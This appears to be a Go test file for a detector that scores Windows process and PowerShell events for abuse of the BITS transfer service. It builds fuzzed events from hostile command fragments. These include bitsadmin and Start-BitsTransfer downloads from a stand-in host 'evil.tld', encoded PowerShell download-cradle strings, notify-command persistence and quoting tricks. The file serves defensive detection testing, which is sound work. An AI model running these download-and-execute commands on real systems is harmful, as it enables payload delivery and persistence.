package hardened

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"testing"

	"bitsscore/src/detect"
)

// fragments are pieces of hostile and ordinary command lines; random
// events are built from them, with random bytes between, so that both the
// SPL's and this mode's branches are reached.
var fragments = []string{
	"bitsadmin", "BITSADMIN.EXE", `C:\Windows\System32\bitsadmin.exe`, "powershell", "pwsh.exe", "powershell_ise.exe",
	"/transfer", "/addfile", "/ad\"dfi\"le", "/SetNotifyCmdLine", "/setnotifyflags", "/reset", "/upload", "/create", "/priority",
	"Start-BitsTransfer", "start-bitstransfer", "Add-BitsFile", "New-BitsTransfer", "-Source", "-Destination", "-Dest:", "-enc", "\u2013enc", "/e", "-ec",
	"http://", "https://", "HTTP://", "h\"tt\"ps://", "https:/", "ftp://", `\\host\share\`, "@", "?.microsoft.com", ".microsoft.com", ".windowsupdate.com",
	".windows.com", "evil.tld", "203.0.113.7", "10.1.2.3", "3405803783", "raw.githubusercontent.com", "download.windowsupdate.com",
	".exe", ".ps1", ".png", ".zip", ".iso", ".EXE", "%temp%", "$env:TEMP", `\AppData\`, `\Users\Public\`, `C:\Temp\`, `\ccmcache\`,
	"\"", "'", "^", "`", " ", " ", " ", "\t", "\n", "\r\n", ";", "|", "&", "(", ")", ",", "=", ":", "name=\"Destination\"; value=\"", "value=",
	"ſ", "K", "é", "\xff", "\xe2\x80", "BITS.Manager", "SetNotifyCmdLine", "svchost.exe -k netsvcs -p -s BITS", "cmd.exe", "NULL",
	"SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQp", "UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIABoAHQAdABwADoALwAvAGUALgB0AGwAZAAvAGEALgBlAHgAZQA=",
}

func randomValue(r *rand.Rand) []byte {
	var b []byte
	for range r.IntN(12) {
		if r.IntN(5) == 0 {
			b = append(b, byte(r.IntN(256)))
		} else {
			b = append(b, fragments[r.IntN(len(fragments))]...)
		}
	}
	return b
}

func randomEvent(r *rand.Rand, names []string) []detect.Values {
	in := make([]detect.Values, len(names))
	codes := []string{"1", "4688", "3", "59", "60", "61", "16403", "4104", "4103", "800", "7", "", "x"}
	for i, name := range names {
		if r.IntN(3) == 0 {
			continue // null
		}
		if name == "EventCode" {
			in[i] = detect.Values{[]byte(codes[r.IntN(len(codes))])}
			continue
		}
		for range 1 + r.IntN(2)*r.IntN(3) { // mostly one value, sometimes several
			in[i] = append(in[i], randomValue(r))
		}
	}
	return in
}

func cloneValues(out []detect.Values) [][]string {
	c := make([][]string, len(out))
	for i, v := range out {
		for _, x := range v {
			c[i] = append(c[i], string(x))
		}
	}
	return c
}

// TestSPLOutputsAreTheSPLs: for random events, the SPL fields of this mode
// equal NewSPL's outputs for the same event, value for value.
func TestSPLOutputsAreTheSPLs(t *testing.T) {
	d := New(nil)
	spl := detect.NewSPL()
	if got, want := d.Outputs()[:len(spl.Outputs())], spl.Outputs(); !slices.Equal(got, want) {
		t.Fatalf("Outputs start %q, want the SPL's %q", got, want)
	}
	for _, name := range spl.Inputs() {
		if !slices.Contains(d.Inputs(), name) {
			t.Fatalf("Inputs lack the SPL's %q", name)
		}
	}
	r := rand.New(rand.NewPCG(1197, 2024))
	for i := range 20000 {
		in := randomEvent(r, d.Inputs())
		splIn := make([]detect.Values, len(spl.Inputs()))
		for j, name := range spl.Inputs() {
			splIn[j] = in[slices.Index(d.Inputs(), name)]
		}
		want := make([]detect.Values, len(spl.Outputs()))
		spl.Score(splIn, want)
		wantCopy := cloneValues(want)
		out := make([]detect.Values, len(d.Outputs()))
		d.Score(in, out)
		got := cloneValues(out[:len(spl.Outputs())])
		if !slices.EqualFunc(got, wantCopy, slices.Equal) {
			t.Fatalf("event %d: SPL fields %q, NewSPL %q (inputs %q)", i, got, wantCopy, cloneValues(in))
		}
	}
}

// checkInvariants asserts what every scored event must satisfy.
func checkInvariants(t *testing.T, d detect.Detector, known *KnownGood, out []detect.Values) {
	t.Helper()
	outputs := d.Outputs()
	risk := out[slices.Index(outputs, "RiskScore")]
	if len(risk) != 1 {
		t.Fatalf("RiskScore %q, want one value", risk)
	}
	n, err := strconv.Atoi(string(risk[0]))
	if err != nil || n < 0 || n > 100 {
		t.Fatalf("RiskScore %q, want 0..100", risk[0])
	}
	inds := out[slices.Index(outputs, "Indicators")]
	var set ruleSet
	knownGood := false
	for i, v := range inds {
		if i > 0 && bytes.Compare(inds[i-1], v) >= 0 {
			t.Fatalf("Indicators %q not strictly sorted", inds)
		}
		s := string(v)
		id, suppressed := strings.CutPrefix(s, "known_good:")
		id, overridden := strings.CutPrefix(id, "known_good_overridden:")
		if suppressed || overridden {
			if !slices.Contains(known.IDs(), id) && !slices.Contains(builtinKnownGoodIDs(), id) {
				t.Fatalf("Indicators holds %q, not a known-good entry", s)
			}
			knownGood = knownGood || suppressed
			continue
		}
		ind, ok := indicatorByName(s)
		if !ok {
			t.Fatalf("Indicators holds %q, neither an indicator nor a known-good entry", s)
		}
		set.add(ind)
	}
	switch {
	case knownGood && n > min(set.score(), knownGoodCeiling):
		t.Fatalf("RiskScore %d with a known-good match, want <= %d (Indicators %q)", n, knownGoodCeiling, inds)
	case !knownGood && n != set.score():
		t.Fatalf("RiskScore %d, want the capped sum of the weights %d (Indicators %q)", n, set.score(), inds)
	}
	if knownGood && set.hasEvasion() {
		t.Fatalf("known-good suppression despite an evasion indicator: %q", inds)
	}
}

func TestInvariantsOnRandomEvents(t *testing.T) {
	known := DefaultKnownGood()
	d := New(known)
	r := rand.New(rand.NewPCG(7, 1197))
	for range 20000 {
		out := make([]detect.Values, len(d.Outputs()))
		d.Score(randomEvent(r, d.Inputs()), out)
		checkInvariants(t, d, known, out)
	}
}

// TestEveryInputMatters: required_fields names what this mode reads and no
// more, so each input must change some event's outputs.
func TestEveryInputMatters(t *testing.T) {
	d := New(nil)
	withField := map[string]struct {
		base  event
		field string
		value string
	}{
		"EventCode":          {ev("Image", bitsadminExe, "CommandLine", "bitsadmin /reset"), "EventCode", "3"},
		"CommandLine":        {ev("EventCode", "1", "Image", bitsadminExe), "CommandLine", "bitsadmin /reset"},
		"ProcessCommandLine": {ev("EventCode", "1", "Image", bitsadminExe), "ProcessCommandLine", "bitsadmin /reset"},
		"Image":              {ev("EventCode", "1", "CommandLine", "x /reset"), "Image", bitsadminExe},
		"OriginalFileName":   {ev("EventCode", "1", "Image", `C:\x\svc.exe`), "OriginalFileName", "bitsadmin.exe"},
		"NewProcessName":     {ev("EventCode", "4688", "CommandLine", "x /reset"), "NewProcessName", bitsadminExe},
		"ParentImage":        {ev("EventCode", "1", "Image", cmdExe, "ParentCommandLine", "svchost.exe -k netsvcs -p -s BITS"), "ParentImage", svchostExe},
		"ParentProcessName":  {ev("EventCode", "4688", "NewProcessName", cmdExe), "ParentProcessName", svchostExe},
		"ParentCommandLine":  {ev("EventCode", "1", "Image", cmdExe, "ParentImage", svchostExe), "ParentCommandLine", "svchost.exe -k netsvcs -p -s BITS"},
		"User":               {bitsadmin(`/transfer wu https://download.windowsupdate.com/a.exe C:\a.exe`), "User", `NT AUTHORITY\SYSTEM`},
		"SubjectUserName":    {ev("EventCode", "4688", "NewProcessName", bitsadminExe, "CommandLine", `bitsadmin /transfer wu https://download.windowsupdate.com/a.exe C:\a.exe`), "SubjectUserName", "WS01$"},
		"processPath":        {ev("EventCode", "3"), "processPath", bitsadminExe},
		"jobTitle":           {ev("EventCode", "3"), "jobTitle", "job"},
		"jobOwner":           {fileAdded(`https://download.windowsupdate.com/a.exe`, `C:\a.exe`, ""), "jobOwner", `NT AUTHORITY\SYSTEM`},
		"url":                {ev("EventCode", "59"), "url", "https://evil.tld/a.exe"},
		"name":               {ev("EventCode", "59", "url", "https://evil.tld/a.exe"), "name", "job"},
		"RemoteName":         {ev("EventCode", "16403"), "RemoteName", "https://evil.tld/a.exe"},
		"LocalName":          {ev("EventCode", "16403"), "LocalName", `C:\Users\Public\a.exe`},
		"ScriptBlockText":    {ev("EventCode", "4104"), "ScriptBlockText", "Start-BitsTransfer https://evil.tld/a.exe"},
		"Payload":            {ev("EventCode", "4103"), "Payload", "Start-BitsTransfer https://evil.tld/a.exe"},
		"Data":               {ev("EventCode", "800"), "Data", "Start-BitsTransfer https://evil.tld/a.exe"},
	}
	for _, name := range d.Inputs() {
		c, ok := withField[name]
		if !ok {
			t.Errorf("input %s: no test shows it matters", name)
			continue
		}
		delete(c.base, c.field)
		without := score(t, d, c.base)
		with := event{}
		for k, v := range c.base {
			with[k] = v
		}
		with[c.field] = []string{c.value}
		got := score(t, d, with)
		if fmt.Sprint(got.fields) == fmt.Sprint(without.fields) {
			t.Errorf("input %s: outputs do not change with it (%v)", name, got.fields)
		}
	}
}
